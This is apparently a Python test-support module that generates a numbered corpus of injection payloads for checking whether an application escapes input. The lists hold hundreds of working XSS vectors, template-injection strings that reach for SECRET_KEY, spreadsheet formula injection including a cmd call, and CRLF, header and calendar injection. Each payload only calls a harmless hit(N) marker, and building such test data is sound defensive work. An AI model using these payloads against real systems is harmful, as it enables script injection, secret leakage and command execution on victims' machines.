"""
Words that would run as a script, or as a formula, a header or a template, wherever they are not treated as words.

Each calls `hit` with its number, so that a browser can prove what ran, or makes an element that has `data-hit`. What a
server would run leaves `SERVED` in the answer.
"""

import re
from collections.abc import Callable, Iterator

SERVED = "hit§by§server"  # in no payload, and no slug; what a template engine would make of some
# Its own number stands in each in place of “N”.
CALL = "hit(N)"
RUN = [
    "<script data-hit>CALL</script>",
    "<img data-hit src=x onerror=CALL>",
    "<svg data-hit onload=CALL>",
    "<iframe data-hit srcdoc='<script>parent.CALL</script>'></iframe>",
    "<details data-hit open ontoggle=CALL>",
    "<a data-hit href=javascript:CALL>link</a>",
    "<style data-hit>@keyframes x{}</style><b data-hit style=animation-name:x onanimationstart=CALL>b</b>",
]
BREAKS_OUT_OF = {
    "an element": "{}",
    "an attribute in double quotes": '">{}',
    "an attribute in single quotes": "'>{}",
    "an attribute without quotes": " x>{}",
    "a title": "</title>{}",
    "a text area": "</textarea>{}",
    "a style": "</style>{}",
    "a script": "</script>{}",
    "JSON in a script": '"}}]</script>{}',
    "JSON in a script whose end looks otherwise": "</ScRiPt\t/x>{}",
    "a noscript": "</noscript>{}",
    "a template": "</template>{}",
    "a select": "</option></select>{}",
    "a table": "</td></tr></table>{}",
    "a frame": "</iframe>{}",
    "plain text": "</xmp></noembed></noframes>{}",
    "an SVG": "</text></svg>{}",
    "MathML": "</mtext></math>{}",
    "a comment": "-->{}",
    "a comment that ends oddly": "--!>{}",
    "CDATA": "]]>{}",
    "a link": "</a>{}",
}
EVENTS = [
    "abort", "afterscriptexecute", "animationcancel", "animationend", "animationiteration", "animationstart",
    "auxclick", "beforecopy", "beforecut", "beforeinput", "beforematch", "beforepaste", "beforetoggle", "blur",
    "cancel", "canplay", "change", "click", "close", "contextmenu", "copy", "cuechange", "cut", "dblclick", "drag",
    "dragend", "dragenter", "dragover", "dragstart", "drop", "durationchange", "emptied", "ended", "error", "focus",
    "focusin", "focusout", "formdata", "fullscreenchange", "gotpointercapture", "input", "invalid", "keydown",
    "keypress", "keyup", "load", "loadeddata", "loadedmetadata", "loadstart", "lostpointercapture", "mousedown",
    "mouseenter", "mouseleave", "mousemove", "mouseout", "mouseover", "mouseup", "pageshow", "paste", "pause", "play",
    "playing", "pointercancel", "pointerdown", "pointerenter", "pointermove", "pointerout", "pointerover",
    "pointerrawupdate", "pointerup", "progress", "reset", "resize", "scroll", "scrollend", "search", "select",
    "selectionchange", "selectstart", "submit", "timeupdate", "toggle", "touchend", "touchstart", "transitionend",
    "transitionrun", "transitionstart", "unload", "wheel",
]  # fmt: skip
IN_ATTRIBUTES = [
    '" on{}="CALL" tabindex=0 autofocus data-hit="',
    "' on{}='CALL' tabindex=0 autofocus data-hit='",
]
SCHEMES = [
    "javascript:CALL", "JaVaScRiPt:CALL", "javascript\t:CALL", "java\tscript:CALL", "java\nscript:CALL",
    "java\rscript:CALL", "\x01javascript:CALL", " javascript:CALL", "\u2028javascript:CALL", "\xa0javascript:CALL",
    "javascript&colon;CALL", "&#106;avascript:CALL", "&#x6A;avascript:CALL", "javascript&#58;CALL",
    "java&Tab;script:CALL", "java&NewLine;script:CALL", "javascript:%68it(N)", "javascript://x%0aCALL",
    "javascript://example.org/?%0dCALL", "javascript:/*https://example.org/*/CALL", "javascript:void(CALL)//https://",
    "javascript:`${CALL}`", "view-source:javascript:CALL", "feed:javascript:CALL", "jar:javascript:CALL",
    "vbscript:CALL", "VbScRiPt:CALL", "livescript:CALL", "mocha:CALL", "data:text/html,<script>top.CALL</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDApPC9zY3JpcHQ++",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.CALL'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>top.CALL</x:script>",
    "blob:javascript:CALL", "filesystem:javascript:CALL", "ｊavascript:CALL", "jаvascript:CALL", "javascript：CALL",
    'https://example.org/"onmouseover=CALL//', "https://example.org/'onmouseover=CALL//",
    "https://example.org/><svg/data-hit/onload=CALL>", "//example.org/%22%3E%3Csvg%20onload=CALL%3E",
    "https://javascript:CALL@example.org/", "\\\\javascript:CALL", "/\\javascript:CALL", "?javascript:CALL",
]  # fmt: skip
ELEMENTS = [
    "<body data-hit onload=CALL>", "<input data-hit autofocus onfocus=CALL>", "<video data-hit src=x onerror=CALL>",
    "<select data-hit autofocus onfocus=CALL>", "<textarea data-hit autofocus onfocus=CALL>",
    "<audio data-hit src onerror=CALL>", "<video data-hit><source onerror=CALL></video>",
    "<marquee data-hit onstart=CALL>", "<object data-hit data=javascript:CALL></object>",
    "<embed data-hit src=javascript:CALL>", "<iframe data-hit src=javascript:parent.CALL></iframe>",
    "<form data-hit action=javascript:CALL><button>Senden</button></form>", "<base data-hit href=javascript:CALL//>",
    "<button data-hit form=f formaction=javascript:CALL>Senden</button>",
    "<isindex data-hit type=image src=1 onerror=CALL>", "<link data-hit rel=stylesheet href=javascript:CALL>",
    "<link data-hit rel=import href='data:text/html,<script>CALL</script>'>",
    "<meta data-hit http-equiv=refresh content='0;url=javascript:CALL'>",
    "<meta data-hit http-equiv=refresh content='0;url=data:text/html,<script>top.CALL</script>'>",
    "<meta data-hit http-equiv=Set-Cookie content='hit=N'>", "<dialog data-hit open onclose=CALL></dialog>",
    "<table data-hit background=javascript:CALL>", "<frameset data-hit onload=CALL>",
    "<bgsound data-hit src=javascript:CALL>", "<keygen data-hit autofocus onfocus=CALL>",
    "<area data-hit href=javascript:CALL>", "<image data-hit src=x onerror=CALL>",
    "<script data-hit src='data:text/javascript,CALL'></script>", "<script data-hit type=module>CALL</script>",
    "<script data-hit/src='//example.org/hit.js?N'></script>",
    "<template data-hit shadowrootmode=open><script>CALL</script></template>",
    "<portal data-hit src=javascript:CALL>", "<a data-hit ping=javascript:CALL href=#>a</a>",
    "<div data-hit popover id=hN onbeforetoggle=CALL>p</div><button popovertarget=hN>b</button>",
    "<input data-hit type=hidden oncontentvisibilityautostatechange=CALL style=content-visibility:auto>",
]  # fmt: skip
XML = [
    "<svg data-hit><script>CALL</script></svg>", "<svg data-hit><script xlink:href=data:,CALL /></svg>",
    "<svg data-hit><animate onbegin=CALL attributeName=x dur=1s>", "<svg data-hit><set onbegin=CALL attributeName=x>",
    "<svg data-hit><a xlink:href=javascript:CALL><text y=20>a</text></a></svg>",
    "<svg data-hit><a><animate attributeName=href values=javascript:CALL /><text y=20>a</text></a></svg>",
    "<svg data-hit><foreignObject><iframe onload=CALL></iframe></foreignObject></svg>",
    "<svg data-hit><image href=x onerror=CALL /></svg>",
    "<svg data-hit><style><img src=x onerror=CALL></style></svg>",
    "<svg data-hit><use href='data:image/svg+xml,<svg id=x onload=CALL />#x' /></svg>",
    "<math data-hit><mtext><img src=x onerror=CALL></mtext></math>", "<math data-hit href=javascript:CALL>a</math>",
    "<math data-hit><maction actiontype=statusline xlink:href=javascript:CALL>a</maction></math>",
    "<math data-hit><annotation-xml encoding=text/html><img src=x onerror=CALL></annotation-xml></math>",
    "<?xml version='1.0'?><x:script data-hit='' xmlns:x='http://www.w3.org/1999/xhtml'>CALL</x:script>",
    "<!DOCTYPE x [<!ENTITY hit '<script>CALL</script>'>]><x>&hit;</x>",
    "<?xml-stylesheet type='text/xsl' href='javascript:CALL'?>", "<![CDATA[<script data-hit>CALL</script>]]>",
    "<html:script data-hit='' xmlns:html='http://www.w3.org/1999/xhtml'>CALL</html:script>",
]  # fmt: skip
MUTATING = [
    "<noscript><p title='</noscript><img data-hit src=x onerror=CALL>'>",
    "<math><mtext><table><mglyph><style><!--</style><img data-hit title='--><img src=x onerror=CALL>'>",
    "<svg></p><style><a title='</style><img data-hit src=x onerror=CALL>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img data-hit src=x onerror=CALL>",
    "<svg><style>&lt;img data-hit src=x onerror=CALL&gt;</style></svg>", "&lt;script data-hit&gt;CALL&lt;/script&gt;",
    "&amp;lt;img data-hit src=x onerror=CALL&amp;gt;", "&#60;img data-hit src=x onerror=CALL&#62;",
    "&#x3c;svg data-hit onload=CALL&#x3e;", "%3Cscript data-hit%3ECALL%3C/script%3E",
    "\\u003cscript data-hit\\u003eCALL\\u003c/script\\u003e", "\\x3cimg data-hit src=x onerror=CALL\\x3e",
    "+ADw-script data-hit+AD4-CALL+ADw-/script+AD4-", "<scr<script data-hit>ipt>CALL</scr</script>ipt>",
    "<<script data-hit>CALL//<</script>", "<scr\x00ipt data-hit>CALL</scr\x00ipt>",
    "<img data-hit src=x onerror\x0c=CALL>", "<img data-hit/src=`x`onerror=CALL>",
    "<img data-hit src=x onerror=&#104;it(N)>", "<SCRIPT data-hit>CALL</SCRIPT >",
    "<script data-hit\n>CALL</script\n>", "<svg/data-hit/onload=CALL//", "<img data-hit src=x onerror=CALL <",
    "<x data-hit onclick=CALL tabindex=1 id=x>#x", "<!--><script data-hit>CALL</script-->",
    "<!-- --!><img data-hit src=x onerror=CALL>", "<!<script data-hit>CALL</script>", "</br data-hit onclick=CALL>",
    "<a href='x' href=\"javascript:CALL\" data-hit>a</a>", "<plaintext data-hit>",
    "<xmp><p title='</xmp><svg data-hit onload=CALL>'>", "<title><a title='</title><svg data-hit onload=CALL>'>",
    "<textarea><a title='</textarea><svg data-hit onload=CALL>'>",
    "<iframe><a title='</iframe><svg data-hit onload=CALL>'>", "<mark data-hit onclick=CALL>a</mark>",
    "<b data-hit onclick=CALL>a</b>", "<p data-hit onclick=CALL>a</p>",
    '<a linktype="page" id="1" data-hit onclick="CALL">a</a>',
    '<embed embedtype="image" id="1" alt="\'><svg data-hit onload=CALL>"/>',
    '<embed embedtype="media" url="javascript:CALL"/>', "[a](javascript:CALL)", "![a](x\"onerror=\"CALL)",
    "<https://example.org/><svg data-hit onload=CALL>", "`<script data-hit>CALL</script>`",
]  # fmt: skip
STYLES = [
    "<style data-hit>*{background:url(javascript:CALL)}</style>", "<p data-hit style=width:expression(CALL)>a</p>",
    "<style data-hit>@import 'javascript:CALL';</style>", '" style="background:url(javascript:CALL)" data-hit="',
    "' style='-moz-binding:url(data:text/xml,CALL)' data-hit='", "red;}</style><script data-hit>CALL</script>",
    "url('javascript:CALL')", "expression(CALL)", "\\65xpression(CALL)", "red;behavior:url(#CALL)",
]  # fmt: skip
SCRIPTS = [
    "';CALL;//", '";CALL;//', "`;CALL;//", "\\';CALL;//", '\\";CALL;//', "${CALL}", "'-CALL-'", '"-CALL-"',
    "*/CALL/*", "\nCALL\n", "\u2028CALL//", "\u2029CALL//", "</script><!--><script data-hit>CALL//",
    "<!--<script>CALL", '{"@type":"x","name":"</script><svg data-hit onload=CALL>"}', "'};CALL;{'", "){CALL}(",
    "__proto__[x]=CALL", "{\"__proto__\":{\"onload\":\"CALL\"}}", "constructor.constructor('CALL')()",
    "{{constructor.constructor('CALL')()}}", "{{$on.constructor('CALL')()}}",
    "<div data-hit ng-app ng-csp ng-click=CALL>a</div>", "<div data-hit x-data x-init=CALL>a</div>",
    "<b data-hit data-controller='w-action' data-action='click->w-action#sendBeacon'>CALL</b>",
    "<div data-hit hx-on:click=CALL hx-get=x hx-trigger=load>a</div>", "[CALL]", "${{CALL}}", "#{CALL}",
    "<%= CALL %>", "@(CALL)",
]  # fmt: skip
TEMPLATES = [
    '{{ "hit§by"|add:"§server" }} CALL', '{% filter upper %}CALL{% endfilter %}{{ "hit§by"|add:"§server" }}',
    '{% autoescape off %}<svg data-hit onload=CALL>{{ "hit§by"|add:"§server" }}{% endautoescape %}',
    '{% if 1 %}{{ "hit§by"|add:"§server" }}{% endif %} CALL', "{{ 'hit§by' ~ '§server' }} CALL",
    "{{ 'hit§by' + '§server' }} CALL", "${'hit§by' + '§server'} CALL", "<%= 'hit§by' + '§server' %> CALL",
    "#{'hit§by' + '§server'} CALL", "%(hit)s {0.__class__} {hit} CALL", "{% load static %}{% debug %} CALL",
    "{% include 'CALL' %}", "{# CALL #}", "{{ settings.SECRET_KEY }} CALL", "{{ request.META }} CALL",
]  # fmt: skip
TABLES = [
    "=CALL", "+CALL", "-CALL", "@CALL", "\tCALL", "\r=CALL", " =CALL", "\n=CALL", "＝CALL", "＋CALL", "－CALL",
    "＠CALL",
    '=HYPERLINK("javascript:CALL","a")', "=cmd|' /C hit N'!A0", '=WEBSERVICE("https://example.org/hit/N")', '";=CALL',
    "',=CALL", "a\r\n=CALL", "\xa0=CALL", "\u200b=CALL", "%0A=CALL", "=1+1+CALL", "@SUM(1)*CALL",
]  # fmt: skip
LINES = [
    "a\r\nBcc: hit-N@example.org", "a\nContent-Type: text/html\n\n<script data-hit>CALL</script>",
    "a\r\nSet-Cookie: hit=N", "a%0d%0aSet-Cookie:%20hit=N", "a\u2028Bcc: hit-N@example.org", "a\x0bSubject: CALL",
    "a\x85Bcc: hit-N@example.org", "=?utf-8?q?=3Cscript=3Ehit=28N=29?=",
    "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:CALL", "a\nATTACH:javascript:CALL", "a\r\nURL:javascript:CALL",
    'a";ALTREP="javascript:CALL', "a\r\nX-ALT-DESC;FMTTYPE=text/html:<script>CALL</script>",
    "a\\nATTACH;VALUE=URI:data:text/html,CALL", "a\r\nDTSTART:19700101T000000Z\r\nX-HIT:N",
    ") /S /JavaScript /JS (CALL", ">> endobj 9 0 obj << /S /URI /URI (javascript:CALL) >> endobj",
    "a\r\n\r\n<script data-hit>CALL</script>",
]  # fmt: skip
LOOKING_ALIKE = [
    "＜script data-hit＞CALL＜/script＞", "﹤img data-hit src=x onerror=CALL﹥", "‹script data-hit›CALL‹/script›",
    "〈svg data-hit onload=CALL〉", "\u202e>tpircs/<CALL>tpircs<", "<\u202escript data-hit>CALL</script>",
    "\ufeff<script data-hit>CALL</script>", "<ſcript data-hit>CALL</ſcript>", "<scrıpt data-hit>CALL</scrıpt>",
    "<img data-hit src=x o\u200bnerror=CALL>", "<\u00adscript data-hit>CALL</script>", "ʺ onclick=CALL data-hit=ʺ",
    "\u2066<svg data-hit onload=CALL>\u2069", "<ѕcript data-hit>CALL</ѕcript>", "¼script¾CALL¼/script¾",
    "<\U000e0073cript data-hit>CALL", "\ud83d<svg data-hit onload=CALL>", "İ<svg data-hit onload=CALL>ß",
    "e\u0301\u0338<svg data-hit onload=CALL>", "<a data-hit href=ⓙavascript:CALL>a</a>",
]  # fmt: skip


def _templates() -> Iterator[str]:
    for around in BREAKS_OUT_OF.values():
        for element in RUN:
            yield around.format(element) if "}}" not in around else around.replace("}}", "}").replace("{}", element)
    for number, event in enumerate(EVENTS):
        yield IN_ATTRIBUTES[number % len(IN_ATTRIBUTES)].format(event)
    for words in (SCHEMES, ELEMENTS, XML, MUTATING, STYLES, SCRIPTS, TEMPLATES, TABLES, LINES, LOOKING_ALIKE):
        yield from words


def _numbered(number: int, template: str) -> str:
    words = template.replace("CALL", CALL).replace("hit(N)", f"hit({number})")
    words = re.sub(r"(?<=[-=?/ hdi:])N\b", str(number), words)
    # As it reaches a form, which takes no NUL and no half of a pair.
    return words.replace("\x00", "").encode("utf-8", "replace").decode()


PAYLOADS = list(dict.fromkeys(_numbered(number, template) for number, template in enumerate(_templates(), 1)))
SAMPLE = PAYLOADS[:: len(PAYLOADS) // 19]


def one_line(payload: str) -> bool:
    """Whether a field of one line takes it."""
    return len(payload.splitlines()) == 1 and payload.isprintable()


def fitting(payloads: list[str], size: int, start: int, takes: Callable[[str], bool] = bool) -> list[str]:
    """As many of the payloads as the field takes, from one on, so that each is in some field."""
    found: list[str] = []
    left = size
    for payload in payloads[start % len(payloads) :] + payloads[: start % len(payloads)]:
        if len(payload) < left and takes(payload):
            found.append(payload)
            left -= len(payload) + 1
    return found
